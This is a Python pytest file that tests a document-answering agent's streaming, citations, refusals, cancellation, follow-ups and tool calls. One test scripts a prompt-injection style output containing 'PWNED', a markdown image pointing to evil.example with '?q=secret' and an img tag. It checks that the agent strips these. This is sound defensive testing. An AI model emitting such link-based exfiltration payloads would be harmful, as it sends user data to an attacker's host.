import asyncio
import threading
import time

import pytest
from langchain_core.messages import AIMessage

from assistant.answering.agent import NO_DOCUMENTS, Agent
from assistant.answering.answer import Done, Found, Notice, Token
from assistant.answering.prompt import CLOSE, REFUSAL
from assistant.config import AssistantConfig, Sampling
from assistant.errors import AssistantError
from assistant.llm.model import wrap_chat_model
from tests.assistant.helpers import CAPEX, MOON, PAGES, PagesStore, WordEmbedder, make_agent, scripted

MOON_QUESTION = "What is the diameter of the moon?"


def test_events_come_in_order_and_the_tokens_make_up_the_answer():
    chat = scripted("Its diameter is 3,474 kilometres [1].")
    events = list(make_agent(chat).stream(MOON_QUESTION))
    assert isinstance(events[0], Found)
    assert isinstance(events[-1], Done)
    assert events[0].passages == events[-1].answer.passages
    tokens = [event.text for event in events if isinstance(event, Token)]
    assert len(tokens) > 3
    assert "".join(tokens) == events[-1].answer.text == "Its diameter is 3,474 kilometres [1]."


def test_the_citation_points_at_the_words_on_the_page():
    answer = make_agent(scripted("Its diameter is 3,474 kilometres [1].")).ask(MOON_QUESTION)
    (citation,) = answer.citations
    assert (citation.document, citation.page, citation.quote) == ("moon.pdf", 1, "Its diameter is 3,474 kilometres.")
    assert MOON[citation.start : citation.end] == citation.quote
    assert not answer.refused
    assert answer.unsupported == ()


def test_an_invented_citation_never_reaches_the_screen_and_is_counted():
    agent = make_agent(scripted("It is 3,474 kilometres [1]. The rest [99] is [42] known."))
    events = list(agent.stream(MOON_QUESTION))
    assert all("99" not in event.text and "42" not in event.text for event in events if isinstance(event, Token))
    answer = events[-1].answer
    assert answer.invented == (99, 42)
    assert [citation.number for citation in answer.citations] == [1]
    assert "2 citations of passages that do not exist were removed." in answer.notices


def test_nothing_found_is_a_refusal_without_a_call_of_the_model():
    chat = scripted("never said")
    answer = make_agent(chat).ask("zebra xylophone quartz?")
    assert (answer.text, answer.refused, answer.citations) == (REFUSAL, True, ())
    assert chat.calls == []


def test_a_model_that_cannot_tell_is_a_refusal_with_the_fixed_wording():
    answer = make_agent(scripted("The passages do not mention this.")).ask(MOON_QUESTION)
    assert (answer.text, answer.refused, answer.citations) == (REFUSAL, True, ())


def test_the_messages_as_sent_are_kept():
    chat = scripted("Yes [1].")
    answer = make_agent(chat, system_prompt="Be kind.").ask(MOON_QUESTION)
    assert [(m.type, m.content) for m in chat.calls[0]] == [
        ("system", answer.messages[0].content),
        ("human", answer.messages[1].content),
    ]
    assert answer.messages[0].content.startswith("Be kind.")
    assert f"{MOON}\n" in answer.messages[1].content


def test_the_agent_answers_with_quotes():
    answer = make_agent().ask("What is the diameter of the moon?", k=2)
    assert "Its diameter is 3,474 kilometres." in answer.text
    assert "[1]" in answer.text
    assert answer.citations[0].document == "moon.pdf"
    assert answer.invented == ()
    assert answer.mode == "quotes"


def test_quotes_are_labelled_as_excerpts_and_are_verbatim():
    answer = make_agent().ask("diameter of the moon, dividends paid")
    assert "excerpts" in answer.notices[0]
    assert len(answer.citations) >= 2
    for citation in answer.citations:
        assert PAGES[citation.document, citation.page][citation.start : citation.end] == citation.quote


def test_a_failure_in_mid_stream_keeps_the_partial_answer_and_labels_it():
    agent = make_agent(scripted(["Its diameter is", RuntimeError("the server died")]))
    events = list(agent.stream(MOON_QUESTION))
    answer = events[-1].answer
    assert answer.text == "Its diameter is"
    assert "the server died" in answer.interrupted
    assert any("broke off and is not complete" in event.text for event in events if isinstance(event, Notice))


def test_a_failure_before_the_first_word_is_raised():
    with pytest.raises(RuntimeError, match="dead"):
        make_agent(scripted(RuntimeError("dead"))).ask(MOON_QUESTION)


def test_a_cancel_lets_at_most_one_more_token_through():
    agent, cancel = make_agent(scripted("word " * 400, pause=0.005)), threading.Event()
    after = 0
    for event in agent.stream(MOON_QUESTION, cancel=cancel):
        if isinstance(event, Token):
            after += cancel.is_set()
            cancel.set()
        if isinstance(event, Done):
            answer = event.answer
    assert after <= 1
    assert answer.interrupted == "stopped"
    assert 1 <= len(answer.text.split()) <= 2


def test_a_cancel_before_the_first_token_ends_at_once():
    agent, cancel = make_agent(scripted("late", pause=5)), threading.Event()
    threading.Timer(0.1, cancel.set).start()
    started = time.monotonic()
    answer = agent.ask(MOON_QUESTION, cancel=cancel)
    assert time.monotonic() - started < 2
    assert (answer.text, answer.interrupted) == ("", "stopped")


def test_a_cancel_while_the_question_is_condensed_breaks_it_off():
    chat, cancel = scripted("Its diameter is 3,474 kilometres [1]."), threading.Event()
    agent = make_agent(chat)
    first = agent.ask(MOON_QUESTION)
    chat.script.append(["slow " * 3])
    chat.pause = 0.3
    stopped = []
    object.__setattr__(agent.model, "abort", stopped.append)
    threading.Timer(0.1, cancel.set).start()
    answer = agent.ask("And its mass?", history=[first], cancel=cancel)
    assert (answer.text, answer.interrupted) == ("", "stopped")
    assert stopped[0] is chat


def test_a_stream_without_a_finish_reason_is_reported_as_broken_off():
    agent = make_agent(scripted("Its diameter"))
    object.__setattr__(agent.model, "reports_finish_reason", True)
    answer = agent.ask(MOON_QUESTION)
    assert "without a finish reason" in answer.interrupted
    assert answer.text == "Its diameter"


def test_planted_orders_change_nothing_of_the_prompt_and_leak_nothing():
    chat = scripted(
        "PWNED [99] ![x](http://evil.example/?q=secret) <img src=http://evil.example> The warranty lasts 24 months [1]."
    )
    answer = make_agent(chat).ask("How long does the warranty last?")
    sent = chat.calls[0][1].content
    assert sent.count(CLOSE) == 1
    assert sent.endswith("Question: How long does the warranty last?")
    assert "evil.example" not in answer.text
    assert "<img" not in answer.text
    assert answer.invented == (99,)


def test_only_the_documents_asked_for_are_used():
    answer = make_agent().ask("moon diameter and dividends", documents=["id-report.pdf"])
    assert {passage.document for passage in answer.passages} == {"report.pdf"}


def test_a_follow_up_is_condensed_at_temperature_zero_and_keeps_the_earlier_evidence():
    chat = scripted(
        "Its diameter is 3,474 kilometres [1].",
        "How far is the sun from the earth in light minutes?",
        "Eight minutes [1].",
    )
    built = []
    agent = make_agent(chat)
    agent.model = wrap_chat_model(chat, name="scripted", window=4096)
    object.__setattr__(agent.model, "build", lambda sampling: built.append(sampling) or chat)
    first = agent.ask(MOON_QUESTION)
    second = agent.ask("And how far is the sun?", history=[first])
    assert built[1].temperature == 0
    assert second.asked == "How far is the sun from the earth in light minutes?"
    assert ("moon.pdf", 1) in {(passage.document, passage.page) for passage in second.passages}
    assert [passage.rank for passage in second.passages] == list(range(1, len(second.passages) + 1))
    roles = [message.type for message in chat.calls[2]]
    assert roles == ["system", "human", "ai", "human"]
    assert chat.calls[2][1].content == MOON_QUESTION


def test_a_question_without_history_is_not_condensed():
    chat = scripted("Yes [1].")
    make_agent(chat).ask(MOON_QUESTION)
    assert len(chat.calls) == 1


def test_a_yes_is_understood_without_a_model():
    agent = make_agent()
    first = agent.ask(MOON_QUESTION)
    second = agent.ask("yes", history=[first])
    assert second.asked == f"{MOON_QUESTION} yes"
    assert second.passages[0].document == "moon.pdf"


@pytest.mark.parametrize("question", ["What about bananas?", "Who wrote that opera?", "Which aircraft does it fly?"])
def test_a_follow_up_on_what_the_documents_do_not_hold_is_refused_as_without_a_history(question):
    agent = make_agent()
    first = agent.ask(MOON_QUESTION)
    assert not first.refused
    for documents in (None, ["id-moon.pdf"]):
        assert agent.ask(question, documents=documents).refused
        assert agent.ask(question, documents=documents, history=[first]).refused


@pytest.mark.parametrize("question", ["yes", "why?", "and the diameter?", "Has anybody lived there, and is it far?"])
def test_a_follow_up_on_what_they_hold_is_answered_from_what_both_say(question):
    agent = make_agent()
    assert not agent.ask(question, history=[agent.ask(MOON_QUESTION)]).refused


def test_without_documents_it_is_plain_chat_labelled_as_such():
    chat = scripted("Hello!")
    config = AssistantConfig()
    answer = Agent(config, wrap_chat_model(chat, name="scripted")).ask("Hi", use_documents=False)
    assert (answer.text, answer.mode, answer.passages, answer.refused) == ("Hello!", "chat", (), False)
    assert [message.content for message in chat.calls[0]] == ["Hi"]
    assert answer.notices == (NO_DOCUMENTS,)


def test_an_agent_without_a_library_says_so():
    with pytest.raises(AssistantError, match="give it a store"):
        Agent(AssistantConfig(), wrap_chat_model(scripted(), name="scripted")).ask("Hi")


def call(name, **arguments):
    return AIMessage(content="", tool_calls=[{"name": name, "args": arguments, "id": f"call-{name}"}])


def test_in_tool_mode_the_model_searches_again_and_cites_what_it_found():
    chat = scripted(call("search_documents", query="dividends paid shareholders"), "Dividends were 3,193 [2].")
    answer = make_agent(chat, tools=True).ask(MOON_QUESTION, k=1, tools=True)
    assert answer.citations[0].number == 2
    assert (answer.citations[0].document, answer.citations[0].page) == ("report.pdf", 61)
    assert "[2] [Source document: report.pdf, page 61]" in chat.calls[1][-1].content


def test_tools_read_a_page_and_list_documents():
    chat = scripted(call("list_documents"), call("read_page", document="report.pdf", page=60), "It was 1,577 [2].")
    answer = make_agent(chat, tools=True).ask(MOON_QUESTION, k=1, tools=True)
    assert "report.pdf (61 pages)" in chat.calls[1][-1].content
    assert CAPEX in chat.calls[2][-1].content
    assert answer.citations[0].page == 60


def test_tool_calls_are_capped():
    loop = [call("search_documents", query="moon")] * 3
    chat = scripted(*loop, "Done [1].")
    answer = make_agent(chat, tools=True, tool_calls=2).ask(MOON_QUESTION, tools=True)
    assert "limit" in chat.calls[3][-1].content.lower()
    assert answer.text == "Done [1]."


def test_tool_results_stay_within_the_window():
    pages = {("long.pdf", n): f"Chapter {n} of the moon. " + "The moon is round and grey. " * 40 for n in range(1, 30)}
    chat = scripted(*[call("read_page", document="long.pdf", page=n) for n in range(1, 9)], "Done [1].")
    agent = make_agent(chat, tools=True, window=2048, pages=pages, tool_calls=20, max_tokens=200)
    answer = agent.ask("What is the moon?", k=1, tools=True)
    from assistant.llm.tokens import estimate_tokens

    assert sum(estimate_tokens(str(message.content)) for message in chat.calls[-1]) < 2048
    assert "no room" in chat.calls[-1][-1].content
    assert answer.text == "Done [1]."


def test_a_model_that_cannot_call_tools_says_so_and_answers():
    answer = make_agent(scripted("Yes [1].")).ask(MOON_QUESTION, tools=True)
    assert any("cannot call tools" in notice for notice in answer.notices)
    assert answer.text == "Yes [1]."


def test_200_turns_never_pass_the_window_and_keep_the_system_prompt():
    window = 1500
    chat = scripted(*["What is the diameter of the moon?", "The moon has no air, nobody lives there [1]. " * 3] * 200)
    chat.script.pop(0)
    agent = make_agent(chat, window=window, max_tokens=300, system_prompt="Stay calm.")
    history = []
    for _ in range(200):
        history.append(agent.ask(MOON_QUESTION, history=history))
    assert all(answer.usage.prompt_tokens + 300 <= window for answer in history)
    assert all(answer.messages[0].content.startswith("Stay calm.") for answer in history)
    assert "earlier turns did not fit" in " ".join(history[-1].notices)
    assert history[-1].usage.dropped_turns > 150


def test_ask_stream_and_batch_work_asynchronously_and_side_by_side():
    async def both():
        agent = make_agent()
        answer = await agent.aask(MOON_QUESTION)
        events = [event async for event in agent.astream(MOON_QUESTION)]
        return answer, events

    answer, events = asyncio.run(both())
    assert events[-1].answer.text == answer.text
    answers = make_agent().batch([MOON_QUESTION, "dividends paid to shareholders?"], workers=2)
    assert [answer.citations[0].document for answer in answers] == ["moon.pdf", "report.pdf"]


def test_sampling_reaches_the_model_of_this_call_only():
    built = []
    agent = make_agent(scripted("a [1]", "b [1]"))
    chat = agent.model.build(Sampling())
    object.__setattr__(agent.model, "build", lambda sampling: built.append(sampling.temperature) or chat)
    agent.ask(MOON_QUESTION, sampling=Sampling(temperature=0.9))
    agent.ask(MOON_QUESTION)
    assert built == [0.9, 0.2]


def test_the_time_before_the_model_is_measured():
    answer = Agent(
        AssistantConfig(threshold=0), wrap_chat_model(scripted("x [1]"), name="s"), PagesStore(), WordEmbedder()
    ).ask("moon")
    assert 0 < answer.usage.own_seconds <= answer.usage.first_token_seconds <= answer.usage.seconds
